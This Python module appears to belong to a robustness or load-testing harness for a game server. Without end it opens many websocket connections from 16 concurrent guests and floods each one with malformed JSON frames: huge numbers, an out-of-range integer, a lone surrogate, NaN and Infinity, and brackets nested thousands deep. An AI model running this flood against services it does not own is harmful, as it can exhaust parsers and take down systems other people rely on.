"""Frames with numbers beyond all bounds, brackets nested thousands deep, lone surrogates and NaN, on many sockets."""

from __future__ import annotations

import asyncio
import contextlib
from functools import partial

from websockets import ConnectionClosed

from attack.target import Target, forever

_FRAMES = [
    '{"t":"play","id":"1","ply":' + "9" * 4000 + ',"action":1}',
    '{"t":"why","id":"1","action":' + "9" * 9000 + "}",
    '{"t":"sync","id":"1","since":-9223372036854775809}',
    '{"t":"say","id":"1","text":"\\ud800"}',
    '{"t":"play","id":"1","ply":NaN,"action":Infinity}',
    "[" * 16_000,
    '{"x":' * 3000,
]


async def attack(target: Target) -> None:
    """Until cancelled."""

    async def guest(number: int) -> None:
        async with target.http(number) as http:
            seats = [{"who": "me"}, {"who": "bot", "bot": "easy"}]
            made = await http.post("/api/tables", json={"game": "fort", "seats": seats, "start": True})
            if made.status_code >= 400:
                await asyncio.sleep(5)
                return
            for _ in range(20):
                opened = await target.socket(http, made.json()["id"], number)
                with contextlib.suppress(ConnectionClosed):
                    for frame in _FRAMES * 20:
                        await opened.send(frame)
                await opened.close()

    await forever(*[partial(guest, number) for number in range(16)])
